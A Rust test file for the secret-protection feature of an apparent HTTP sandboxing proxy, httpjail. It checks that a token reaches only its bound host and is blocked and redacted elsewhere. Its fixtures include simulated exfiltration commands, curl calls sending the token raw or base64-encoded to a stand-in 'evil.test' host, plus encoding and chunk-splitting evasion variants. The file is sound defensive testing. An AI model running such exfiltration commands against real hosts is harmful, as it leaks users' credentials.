//! `--secret` (SPEC section 9): in-process through the proxy API with local upstreams that
//! echo what they received, and through the real `httpjail --weak` binary.
//!
//! Hosts: `api.test` is bound to the secret `TOKEN`; `evil.test` is any other host. Both are
//! local TLS upstreams reached through resolve overrides.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use httpjail::config::{HostPattern, SecretSpec};
use httpjail::rules::{Decision, DenyReason, RuleRequest};
use httpjail::secrets::Secrets;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use zeroize::Zeroizing;

use crate::support::proxy::{Curl, TestProxy, curl};
use crate::support::tls::TestCa;
use crate::support::upstream::TestUpstream;
use crate::support::{Run, TestHome};

/// The real value: characters that need escaping in URLs, JSON-safe.
const VALUE: &str = "ghp_S3cr3tValue/with+chars=0123456789xyz";

struct Fixture {
    proxy: TestProxy,
    bound: TestUpstream,
    other: TestUpstream,
    /// Plain-http upstream, also named `api.test` (on another port).
    plain: TestUpstream,
    placeholder: String,
    ca: String,
    rule_saw: Arc<Mutex<Vec<RuleRequest>>>,
}

impl Fixture {
    async fn start() -> Self {
        Self::with_rule(|_| Decision::ALLOW).await
    }

    async fn with_rule(rule: impl Fn(&RuleRequest) -> Decision + Send + Sync + 'static) -> Self {
        let upstream_ca = TestCa::new("upstream CA");
        let bound = TestUpstream::https(&upstream_ca, &["api.test"], &[b"h2", b"http/1.1"]).await;
        let other = TestUpstream::https(&upstream_ca, &["evil.test"], &[b"http/1.1"]).await;
        let plain = TestUpstream::http().await;
        let specs = [SecretSpec {
            var: "TOKEN".into(),
            hosts: vec![HostPattern::parse("api.test").unwrap()],
            value: Zeroizing::new(VALUE.into()),
        }];
        let secrets = Secrets::from_config(&specs).unwrap().unwrap();
        let placeholder = secrets.placeholder("TOKEN").unwrap().to_owned();
        let rule_saw = Arc::new(Mutex::new(Vec::new()));
        let saw = rule_saw.clone();
        let proxy = TestProxy::builder(move |r| {
            saw.lock().unwrap().push(r.clone());
            rule(r)
        })
        .resolve("api.test", bound.port(), bound.addr)
        .resolve("api.test", plain.port(), plain.addr)
        .resolve("evil.test", other.port(), other.addr)
        .resolve("plain-evil.test", plain.port(), plain.addr)
        .upstream_ca(&upstream_ca)
        .settings(move |s| s.secrets = Some(secrets))
        .start()
        .await;
        let ca = proxy.proxy_ca_pem.to_str().unwrap().to_owned();
        Self {
            proxy,
            bound,
            other,
            plain,
            placeholder,
            ca,
            rule_saw,
        }
    }

    fn bound_url(&self, path: &str) -> String {
        format!("https://api.test:{}{path}", self.bound.port())
    }

    fn other_url(&self, path: &str) -> String {
        format!("https://evil.test:{}{path}", self.other.port())
    }

    async fn curl(&self, args: &[&str]) -> Curl {
        let mut all = vec!["-x", self.proxy.url().leak() as &str, "--cacert", &self.ca];
        all.extend_from_slice(args);
        curl(&all).await
    }

    /// The request log as text, after the proxy flushed it.
    fn log_text(&mut self) -> String {
        let _ = self.proxy.records();
        std::fs::read_to_string(&self.proxy.log_path).unwrap_or_default()
    }
}

fn assert_leak(got: &Curl, what: &str) {
    assert_eq!(got.status, 403, "{what}: {got:?}");
    assert!(
        got.headers
            .to_lowercase()
            .contains("x-httpjail-reason: secret_leak"),
        "{what}: {got:?}"
    );
    assert!(got.body.contains("secret leak"), "{what}: {got:?}");
    assert!(
        !got.body.contains(VALUE),
        "{what}: the denial echoes the value: {got:?}"
    );
}

fn percent_all(s: &str) -> String {
    s.bytes().map(|b| format!("%{b:02X}")).collect()
}

/// Escapes only some characters (every third, and the URL-special ones), lower-case digits.
fn percent_some(s: &str) -> String {
    s.bytes()
        .enumerate()
        .map(|(i, b)| {
            if i % 3 == 0 || matches!(b, b'/' | b'+' | b'=') {
                format!("%{b:02x}")
            } else {
                char::from(b).to_string()
            }
        })
        .collect()
}

/// Every encoding the proxy must recognise, by name.
fn encodings(s: &str) -> Vec<(&'static str, String)> {
    vec![
        ("raw", s.to_owned()),
        ("base64", STANDARD.encode(s)),
        ("base64url unpadded", URL_SAFE_NO_PAD.encode(s)),
        ("base64, offset 1", STANDARD.encode(format!("x{s}yz"))),
        (
            "base64url, offset 2",
            URL_SAFE_NO_PAD.encode(format!("ab{s}")),
        ),
        ("hex", hex::encode(s)),
        ("HEX", hex::encode_upper(s)),
        ("percent, every byte", percent_all(s)),
        ("percent, some bytes", percent_some(s)),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn the_bound_host_receives_the_value_where_the_command_put_the_placeholder() {
    let mut f = Fixture::start().await;
    let ph = f.placeholder.clone();
    let url = f.bound_url(&format!("/repos?access_token={ph}&page=2"));
    let auth = format!("Authorization: Bearer {ph}");
    let body = format!("{{\"token\": \"{ph}\", \"n\": 1}}");
    let got = f
        .curl(&[
            "-H",
            &auth,
            "-H",
            "Content-Type: application/json",
            "--data-binary",
            &body,
            &url,
        ])
        .await;
    assert_eq!(got.status, 200, "{got:?}");
    // git: credentials from a helper are sent as Basic auth.
    let basic = f
        .curl(&["-u", &format!("x-access-token:{ph}"), &f.bound_url("/git")])
        .await;
    assert_eq!(basic.status, 200, "{basic:?}");
    // HTTP/2 from the client, HTTP/2 to the upstream.
    let h2 = f
        .curl(&[
            "--http2",
            "-H",
            &auth,
            "-H",
            "Content-Type: application/json",
            "--data-binary",
            &body,
            &f.bound_url("/h2"),
        ])
        .await;
    assert_eq!(h2.status, 200, "{h2:?}");

    let seen = f.bound.seen();
    assert_eq!(seen.len(), 3, "{seen:?}");
    let first = &seen[0];
    assert_eq!(
        first.headers["authorization"],
        format!("Bearer {VALUE}").as_str()
    );
    let encoded = VALUE
        .replace('/', "%2F")
        .replace('+', "%2B")
        .replace('=', "%3D");
    assert_eq!(
        first.path_and_query,
        format!("/repos?access_token={encoded}&page=2")
    );
    let json: serde_json::Value = serde_json::from_slice(&first.body).unwrap();
    assert_eq!(json["token"], VALUE);
    assert_eq!(
        first.headers["content-length"],
        first.body.len().to_string().as_str(),
        "Content-Length follows the substitution"
    );
    let creds = STANDARD
        .decode(
            seen[1].headers["authorization"]
                .to_str()
                .unwrap()
                .strip_prefix("Basic ")
                .unwrap(),
        )
        .unwrap();
    assert_eq!(creds, format!("x-access-token:{VALUE}").as_bytes());
    assert_eq!(seen[2].version, http::Version::HTTP_2);
    assert_eq!(
        serde_json::from_slice::<serde_json::Value>(&seen[2].body).unwrap()["token"],
        VALUE
    );
    for s in &seen {
        let text = format!("{:?} {}", s.headers, String::from_utf8_lossy(&s.body));
        assert!(
            !text.contains(&ph),
            "a placeholder reached the bound host: {text}"
        );
    }
    // The rule and the log saw the placeholder, never the value.
    let rule_saw = f.rule_saw.lock().unwrap().clone();
    assert!(rule_saw[0].url.contains(&ph), "{rule_saw:?}");
    assert!(rule_saw.iter().all(|r| !r.url.contains(VALUE)));
    let log = f.log_text();
    assert!(log.contains(&ph), "{log}");
    assert!(!log.contains(VALUE), "{log}");
}

#[tokio::test(flavor = "multi_thread")]
async fn every_encoding_of_placeholder_and_value_to_another_host_is_denied_before_sending() {
    let mut f = Fixture::start().await;
    let ph = f.placeholder.clone();
    let mut cases = 0;
    for (needle_name, needle) in [("placeholder", ph.as_str()), ("value", VALUE)] {
        for (encoding, text) in encodings(needle) {
            let what = format!("{needle_name} {encoding}");
            let in_url = f.curl(&[&f.other_url(&format!("/p?d={text}&x=1"))]).await;
            assert_leak(&in_url, &format!("{what} in the URL"));
            let in_header = f
                .curl(&[
                    "-H",
                    &format!("X-Data: pre {text} post"),
                    &f.other_url("/h"),
                ])
                .await;
            assert_leak(&in_header, &format!("{what} in a header"));
            let in_body = f
                .curl(&[
                    "-H",
                    "Content-Type: application/json",
                    "--data-binary",
                    &format!("{{\"data\": \"{text}\"}}"),
                    &f.other_url("/b"),
                ])
                .await;
            assert_leak(&in_body, &format!("{what} in the body"));
            cases += 3;
        }
    }
    assert_eq!(
        f.other.count(),
        0,
        "nothing may reach the other host: {:?}",
        f.other.seen()
    );
    let records = f.proxy.records();
    assert_eq!(records.len(), cases);
    assert!(
        records
            .iter()
            .all(|r| r.reason.as_deref() == Some("secret_leak") && r.status == Some(403)),
        "{records:?}"
    );
    let log = f.log_text();
    assert!(!log.contains(VALUE), "the log shows the value: {log}");
    // The rule was never shown a real value: leaks in the URL and headers are denied first.
    assert!(
        f.rule_saw
            .lock()
            .unwrap()
            .iter()
            .all(|r| !r.url.contains(VALUE))
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_in_the_host_name_is_denied_without_resolving_it() {
    let f = Fixture::start().await;
    let ph = f.placeholder.to_lowercase();
    for url in [
        format!("https://{ph}.evil.test/"),
        format!("http://{ph}.evil.test/"),
    ] {
        let got = f.curl(&[&url]).await;
        assert_leak(&got, &url);
    }
    assert!(
        f.rule_saw
            .lock()
            .unwrap()
            .iter()
            .all(|r| !r.host.contains(&ph)),
        "the rule must not be asked about a leaking name"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn plain_http_to_the_bound_host_and_rule_denied_requests_send_nothing() {
    let f = Fixture::with_rule(|r| {
        if r.path == "/denied" {
            Decision::deny_with(DenyReason::Rule, "not this one")
        } else {
            Decision::ALLOW
        }
    })
    .await;
    let ph = f.placeholder.clone();
    let auth = format!("Authorization: Bearer {ph}");
    let got = f
        .curl(&[
            "-H",
            &auth,
            &format!("http://api.test:{}/x", f.plain.port()),
        ])
        .await;
    assert_leak(&got, "plain http to the bound host");
    assert!(got.body.contains("only sent over https"), "{got:?}");
    assert_eq!(f.plain.count(), 0);
    // The rule still decides: a secret never makes a denied request allowed.
    let got = f.curl(&["-H", &auth, &f.bound_url("/denied")]).await;
    assert_eq!(got.status, 403, "{got:?}");
    assert!(got.headers.contains("x-httpjail-reason: rule"), "{got:?}");
    assert_eq!(f.bound.count(), 0, "a denied request is never sent");
}

/// Sends a chunked POST through the proxy, one HTTP chunk per element of `chunks`.
async fn chunked_post(proxy: &TestProxy, url: &str, host: &str, chunks: &[&[u8]]) -> String {
    let mut stream = TcpStream::connect(proxy.addr).await.unwrap();
    let head = format!(
        "POST {url} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    for chunk in chunks {
        let _ = stream
            .write_all(format!("{:x}\r\n", chunk.len()).as_bytes())
            .await;
        let _ = stream.write_all(chunk).await;
        let _ = stream.write_all(b"\r\n").await;
        let _ = stream.flush().await;
    }
    let _ = stream.write_all(b"0\r\n\r\n").await;
    let mut response = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(20), stream.read_to_end(&mut response)).await;
    String::from_utf8_lossy(&response).into_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_value_split_across_two_chunks_is_caught() {
    let f = Fixture::start().await;
    let port = f.plain.port();
    let url = format!("http://plain-evil.test:{port}/upload");
    let host = format!("plain-evil.test:{port}");
    let body = format!("{{\"k\": \"{VALUE}\"}}");
    for split in [9, 9 + VALUE.len() / 2, 9 + VALUE.len() - 1] {
        let (a, b) = body.as_bytes().split_at(split);
        let response = chunked_post(&f.proxy, &url, &host, &[a, b]).await;
        assert!(
            response.starts_with("HTTP/1.1 403"),
            "split at {split}: {response}"
        );
        assert!(response.contains("secret_leak"), "{response}");
    }
    // The same with the placeholder.
    let body = format!("token={}", f.placeholder);
    let (a, b) = body.as_bytes().split_at(20);
    let response = chunked_post(&f.proxy, &url, &host, &[a, b]).await;
    assert!(response.starts_with("HTTP/1.1 403"), "{response}");
    assert_eq!(f.plain.count(), 0, "{:?}", f.plain.seen());
    // A clean chunked upload still goes through.
    let response = chunked_post(&f.proxy, &url, &host, &[b"hello ", b"world"]).await;
    assert!(response.starts_with("HTTP/1.1 200"), "{response}");
    assert_eq!(f.plain.seen()[0].body, b"hello world");
}

#[tokio::test(flavor = "multi_thread")]
async fn past_one_mebibyte_the_body_streams_and_a_late_leak_cuts_it() {
    let f = Fixture::start().await;
    let dir = tempfile::tempdir().unwrap();
    // Clean, 3 MiB, to the other host: forwarded whole.
    let clean = dir.path().join("clean.bin");
    std::fs::write(&clean, vec![b'a'; 3 << 20]).unwrap();
    let got = f
        .curl(&[
            "--data-binary",
            &format!("@{}", clean.display()),
            &f.other_url("/big"),
        ])
        .await;
    assert_eq!(got.status, 200, "{}", got.stderr);
    assert_eq!(got.json()["body_len"], 3 << 20);
    // The value after 2 MiB: cut before it leaves, the client gets the denial.
    let mut data = vec![b'a'; 2 << 20];
    data.extend_from_slice(VALUE.as_bytes());
    data.extend_from_slice(&[b'b'; 1000]);
    let late = dir.path().join("late.bin");
    std::fs::write(&late, &data).unwrap();
    let got = f
        .curl(&[
            "--data-binary",
            &format!("@{}", late.display()),
            &f.other_url("/late"),
        ])
        .await;
    assert_leak(&got, "value after 2 MiB");
    // The upstream records the aborted request when it notices the abort: wait for it.
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while f.other.count() < 2 && std::time::Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let seen = f.other.seen();
    assert_eq!(seen.len(), 2, "{}", seen.len());
    assert!(
        !seen[1].body_complete,
        "the upstream request must be aborted"
    );
    assert!(!String::from_utf8_lossy(&seen[1].body).contains(VALUE));
    // To the bound host, the placeholder in the first MiB is substituted and the length fixed.
    let mut data = format!("token={}&", f.placeholder).into_bytes();
    data.extend_from_slice(&vec![b'c'; 2 << 20]);
    let big = dir.path().join("big.bin");
    std::fs::write(&big, &data).unwrap();
    let got = f
        .curl(&[
            "-H",
            "Content-Type: application/octet-stream",
            "--data-binary",
            &format!("@{}", big.display()),
            &f.bound_url("/big"),
        ])
        .await;
    assert_eq!(got.status, 200, "{got:?}");
    let seen = f.bound.seen();
    let last = seen.last().unwrap();
    assert!(last.body.starts_with(format!("token={VALUE}&").as_bytes()));
    assert_eq!(
        last.body.len(),
        data.len() - f.placeholder.len() + VALUE.len()
    );
}

// ---- the binary ----

/// Runs `httpjail` to completion off the async runtime (the upstreams live on it).
async fn run_async(mut cmd: std::process::Command) -> Run {
    tokio::task::spawn_blocking(move || Run::from(cmd.output().expect("run httpjail")))
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn weak_mode_end_to_end_the_command_has_only_the_placeholder() {
    let home = TestHome::new();
    let upstream_ca = TestCa::new("upstream CA");
    let bound = TestUpstream::https(&upstream_ca, &["api.test"], &[b"http/1.1"]).await;
    let other = TestUpstream::https(&upstream_ca, &["evil.test"], &[b"http/1.1"]).await;
    let up_pem = upstream_ca.write_pem(home.path(), "upstream-ca.pem");
    let log = home.path().join("requests.log");
    let rule_env = home.path().join("rule-env.txt");
    let (bp, op) = (bound.port(), other.port());
    // The command: env, a request to the bound host with the token in a header, a query and a
    // JSON body, then a request to another host carrying it.
    let script = format!(
        r#"env > "$HOME/command-env.txt"
curl -sS -H "Authorization: Bearer $TOKEN" -H 'Content-Type: application/json' \
  --data-binary "{{\"token\": \"$TOKEN\"}}" "https://api.test:{bp}/repos?access_token=$TOKEN"
echo
curl -sS -w '%{{http_code}}' "https://evil.test:{op}/?t=$TOKEN"
echo
curl -sS -w '%{{http_code}}' -H "X-T: $(printf %s "$TOKEN" | base64 -w0)" "https://evil.test:{op}/b64"
echo
# A command that got hold of the real value anyway: denied, and the refusals that echo what
# the client sent (a bad Host header) must not put it in the log or the diagnostics.
curl -sS -o /dev/null -w '%{{http_code}}' -H 'X-Real: {VALUE}' "https://evil.test:{op}/real"
echo
curl --http1.1 -sS -o /dev/null -w '%{{http_code}}' -H 'Host: {VALUE}' "https://evil.test:{op}/front"
echo
"#
    );
    let mut cmd = home.httpjail();
    cmd.env("TOKEN", VALUE).args([
        "-vvv",
        "--weak",
        "--sh",
        &format!("env > {}; true", rule_env.display()),
        "--secret",
        "TOKEN=api.test",
        "--upstream-ca",
        up_pem.to_str().unwrap(),
        "--resolve",
        &format!("api.test:{bp}:127.0.0.1"),
        "--resolve",
        &format!("evil.test:{op}:127.0.0.1"),
        "--request-log",
        log.to_str().unwrap(),
        "--request-log-format",
        "json",
        "--",
        "sh",
        "-c",
        &script,
    ]);
    let out = run_async(cmd).await;
    assert_eq!(out.code, Some(0), "{out:?}");
    // The bound host got the real value everywhere.
    let seen = bound.seen();
    assert_eq!(seen.len(), 1, "{out:?}");
    assert_eq!(
        seen[0].headers["authorization"],
        format!("Bearer {VALUE}").as_str()
    );
    let json: serde_json::Value = serde_json::from_slice(&seen[0].body).unwrap();
    assert_eq!(json["token"], VALUE);
    assert!(
        seen[0]
            .path_and_query
            .contains("access_token=ghp_S3cr3tValue%2Fwith%2Bchars%3D")
    );
    // The other host got nothing; the command saw the denials.
    assert_eq!(other.count(), 0, "{out:?}");
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(
        lines.iter().filter(|l| l.ends_with("403")).count(),
        3,
        "{out:?}"
    );
    assert!(lines.iter().any(|l| l.ends_with("400")), "{out:?}");
    assert!(out.stdout.contains("secret leak"), "{out:?}");
    // The command's environment: the placeholder, never the value.
    let command_env = std::fs::read_to_string(home.path().join("command-env.txt")).unwrap();
    let token_line = command_env
        .lines()
        .find(|l| l.starts_with("TOKEN="))
        .expect("TOKEN is set for the command");
    assert!(
        token_line.starts_with("TOKEN=httpjail-secret-TOKEN-"),
        "{token_line}"
    );
    assert!(!command_env.contains(VALUE), "{command_env}");
    // The rule program's environment: no secret at all.
    let rule_env = std::fs::read_to_string(&rule_env).unwrap();
    assert!(!rule_env.contains(VALUE), "{rule_env}");
    assert!(
        !rule_env.lines().any(|l| l.starts_with("TOKEN=")),
        "{rule_env}"
    );
    // Neither the log nor the diagnostics (-vvv) show the value.
    let log = std::fs::read_to_string(&log).unwrap();
    assert_eq!(log.lines().count(), 5, "{log}");
    assert!(
        log.contains("[secret $TOKEN]"),
        "the bad Host is redacted: {log}"
    );
    assert!(log.contains("secret_leak"), "{log}");
    assert!(!log.contains(VALUE), "{log}");
    assert!(!out.stderr.contains(VALUE), "{}", out.stderr);
    assert!(
        out.stderr.contains("[secret $TOKEN]"),
        "the diagnostic about the bad Host is redacted: {}",
        out.stderr
    );
    assert!(
        out.stderr.contains("httpjail: debug:") || out.stderr.contains("httpjail: trace:"),
        "-vvv should produce diagnostics: {}",
        out.stderr
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn placeholders_are_new_on_every_run_and_the_proc_rule_has_no_secret() {
    let home = TestHome::new();
    let proc_env = home.path().join("proc-env.txt");
    let processor = home.script(
        "proc.sh",
        &format!(
            "#!/bin/sh\nenv > {}\nwhile read -r line; do echo true; done\n",
            proc_env.display()
        ),
    );
    let mut placeholders = Vec::new();
    for _ in 0..2 {
        let mut cmd = home.httpjail();
        cmd.env("TOKEN", VALUE).env("TOKEN_COPY", VALUE).args([
            "--weak",
            "--proc",
            processor.to_str().unwrap(),
            "--secret",
            "TOKEN=api.test",
            "--",
            "env",
        ]);
        let out = run_async(cmd).await;
        assert_eq!(out.code, Some(0), "{out:?}");
        assert!(!out.stdout.contains(VALUE), "{}", out.stdout);
        let token = out
            .stdout
            .lines()
            .find_map(|l| l.strip_prefix("TOKEN="))
            .unwrap()
            .to_owned();
        assert!(token.starts_with("httpjail-secret-TOKEN-"), "{token}");
        assert!(
            out.stdout.contains(&format!("TOKEN_COPY={token}")),
            "a copy of the value gets the placeholder too: {}",
            out.stdout
        );
        placeholders.push(token);
        let env = std::fs::read_to_string(&proc_env).unwrap();
        assert!(!env.contains(VALUE), "{env}");
    }
    assert_ne!(placeholders[0], placeholders[1]);
}

#[test]
fn a_missing_secret_variable_is_a_start_up_error_naming_it() {
    let home = TestHome::new();
    for (env, state) in [(None, "not set"), (Some(""), "empty")] {
        let mut cmd = home.httpjail();
        if let Some(v) = env {
            cmd.env("MISSING_TOKEN", v);
        }
        let out = crate::support::run(cmd.args([
            "--weak",
            "--sh",
            "true",
            "--secret",
            "MISSING_TOKEN=api.test",
            "--",
            "true",
        ]));
        assert_eq!(out.code, Some(125), "{out:?}");
        assert!(out.stderr.contains("MISSING_TOKEN"), "{out:?}");
        assert!(out.stderr.contains(state), "{out:?}");
    }
}

/// A masked WebSocket client frame.
fn ws_frame(payload: &[u8]) -> Vec<u8> {
    let key = [0x37, 0xfa, 0x21, 0x3d];
    let mut out = vec![0x81];
    assert!(payload.len() < 126);
    out.push(0x80 | payload.len() as u8);
    out.extend_from_slice(&key);
    out.extend(payload.iter().enumerate().map(|(i, b)| b ^ key[i % 4]));
    out
}

#[tokio::test(flavor = "multi_thread")]
async fn websocket_frames_after_an_upgrade_are_scanned() {
    let mut f = Fixture::start().await;
    let port = f.other.port();
    let mut stream = TcpStream::connect(f.proxy.addr).await.unwrap();
    stream
        .write_all(
            format!("CONNECT evil.test:{port} HTTP/1.1\r\nHost: evil.test:{port}\r\n\r\n")
                .as_bytes(),
        )
        .await
        .unwrap();
    let mut buf = vec![0u8; 4096];
    let n = stream.read(&mut buf).await.unwrap();
    assert!(String::from_utf8_lossy(&buf[..n]).starts_with("HTTP/1.1 200"));
    let mut client = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(f.proxy.proxy_ca.root_store())
    .with_no_client_auth();
    client.alpn_protocols = vec![b"http/1.1".to_vec()];
    let mut tls = tokio_rustls::TlsConnector::from(Arc::new(client))
        .connect("evil.test".try_into().unwrap(), stream)
        .await
        .unwrap();
    tls.write_all(
        format!(
            "GET /upgrade HTTP/1.1\r\nHost: evil.test:{port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
             Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
             Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
        )
        .as_bytes(),
    )
    .await
    .unwrap();
    let n = tls.read(&mut buf).await.unwrap();
    assert!(
        String::from_utf8_lossy(&buf[..n]).starts_with("HTTP/1.1 101"),
        "{}",
        String::from_utf8_lossy(&buf[..n])
    );
    let seen = f.other.seen();
    assert!(
        seen[0].headers.get("sec-websocket-extensions").is_none(),
        "compression must not be offered upstream"
    );
    // A clean frame goes through (the test upstream echoes raw bytes).
    let clean = ws_frame(b"hello, server");
    tls.write_all(&clean).await.unwrap();
    let mut echoed = vec![0u8; clean.len()];
    tokio::time::timeout(Duration::from_secs(5), tls.read_exact(&mut echoed))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(echoed, clean);
    // A frame carrying the secret is never forwarded: the connection is cut.
    tls.write_all(&ws_frame(format!("token={VALUE}").as_bytes()))
        .await
        .unwrap();
    let mut rest = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), tls.read_to_end(&mut rest)).await;
    assert!(
        rest.is_empty(),
        "the leaking frame came back from upstream: {rest:?}"
    );
    drop(tls);
    let log = f.log_text();
    assert!(log.contains("secret_leak") && !log.contains(VALUE), "{log}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_value_echoed_back_by_the_bound_host_reaches_the_command_as_the_placeholder() {
    let f = Fixture::start().await;
    let auth = format!("Authorization: Bearer {}", f.placeholder);
    // The test upstream echoes every header it received, the real value included.
    for version in ["--http1.1", "--http2"] {
        let got = f.curl(&[version, "-H", &auth, &f.bound_url("/echo")]).await;
        assert_eq!(got.status, 200, "{got:?}");
        let echo = got.json();
        assert_eq!(
            echo["headers"]["authorization"],
            format!("Bearer {}", f.placeholder),
            "{version}"
        );
        assert!(
            !got.body.contains(VALUE) && !got.headers.contains(VALUE),
            "{version}: {got:?}"
        );
    }
    let seen = f.bound.seen();
    assert!(
        seen.iter()
            .all(|s| s.headers["authorization"] == format!("Bearer {VALUE}").as_str())
    );
}
